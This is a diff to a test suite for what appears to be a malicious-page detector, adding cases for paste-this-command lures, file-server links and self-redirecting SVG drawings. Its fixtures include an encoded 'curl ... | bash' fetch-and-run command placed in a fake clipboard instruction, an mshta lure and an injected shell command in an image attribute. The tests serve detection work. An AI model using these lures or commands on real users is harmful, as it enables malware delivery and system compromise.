@@ -154,8 +154,34 @@ suite('a page that makes the reader run a command', () => {
     )
   })
 
+  test('on a Mac, from coded text', () => {
+    const command = `echo "Installer: https://example.com/" && echo "${btoa('curl -s http://192.0.2.1/a | bash')}" | base64 -d | bash`
+    has(
+      html(
+        `navigator.clipboard.writeText(atob("${btoa(command)}"))`,
+        '<p>1. Press <kbd>&#8984;</kbd>+<kbd>Space</kbd>, type <b>Terminal</b> 2. Press <kbd>&#8984;</kbd>+<kbd>V</kbd></p>',
+      ),
+      'Html.ClickFix',
+    )
+    has(html(`navigator.clipboard.writeText(atob("${btoa(command)}"))`), 'Html.ClickFix')
+  })
+
   test('shown as text only is suspicious', () => {
     has(Buffer.from(`<html><body>${LURE}<code>mshta https://example.com/v</code></body></html>`), 'Html.CommandCopy')
+  })
+
+  test('but not a page that warns of it', () => {
+    const page = `<html><body><h1>Fake captchas</h1>${LURE}<code>mshta https://example.com/v</code>Never run such a command.</body></html>`
+    harmless(Buffer.from(page))
+  })
+
+  test('and not an installer with a copy button for several systems', () => {
+    harmless(
+      html(
+        'const u="https://example.com/install.sh";b.onclick=()=>navigator.clipboard.writeText("curl -fsSL "+u+" | bash")',
+        `${PARAGRAPH}<button id=b>Copy</button>`,
+      ),
+    )
   })
 
   test('but not documentation with a copy button', () => {
@@ -264,6 +290,17 @@ suite('links of a page', () => {
     has(link('search-ms:query=a&amp;crumb=location:%5C%5Cfiles.example%5Cs'), 'Link.HandlerProgram'))
   test('with escaped letters', () => has(link('&#115;earch-ms:query=a'), 'Link.Handler'))
   test('to a share', () => has(link('file://files.example/share/a.exe'), 'Link.FileServer'))
+  test('to a document inside a company is harmless', () => {
+    for (const target of ['file://fileserver01/IT/Notes.pdf', String.raw`\\files\Projects`, 'file://10.1.2.3/a/b.docx'])
+      harmless(link(target))
+    for (const target of [
+      'file://files/a.exe',
+      String.raw`\\files@80\a.pdf`,
+      'file://192.0.2.1/a.pdf',
+      'file://3221225985/a',
+    ])
+      has(link(target), 'Link.FileServer')
+  })
   test('to a picture on a public file server', () =>
     has(image(String.raw`\\203.0.113.5\a.png`), 'Link.FileServerAutomatic'))
   test('to a picture on a server of the company', () => has(image('file://files/a.png'), 'Link.FileServer'))
@@ -305,6 +342,14 @@ suite('a drawing', () => {
   test('that runs built text', () => has(svg(`<script>eval(atob("${btoa('go()')}"))</script>`), 'Svg.Redirect'))
   test('with references in its script', () =>
     has(svg(`<script>&#101;val(atob("${btoa('go()')}"))</script>`), 'Svg.Redirect'))
+  test('that leads to another address by itself', () => {
+    const refresh = (url: string) =>
+      svg(
+        `<foreignObject><html xmlns="http://www.w3.org/1999/xhtml"><meta http-equiv="Re&#102;resh" content="0; url=${url}"/></html></foreignObject>`,
+      )
+    has(refresh('https://example.com/x'), 'Html.Redirect')
+    harmless(refresh('#next'))
+  })
   test('with a command for a converter', () =>
     has(Buffer.from('<image authenticate=\'ff" `id`;"\'><read filename="pdf:a"/></image>'), 'Svg.ImageCommand'))
   test('with shapes and labels in HTML is harmless', () => {
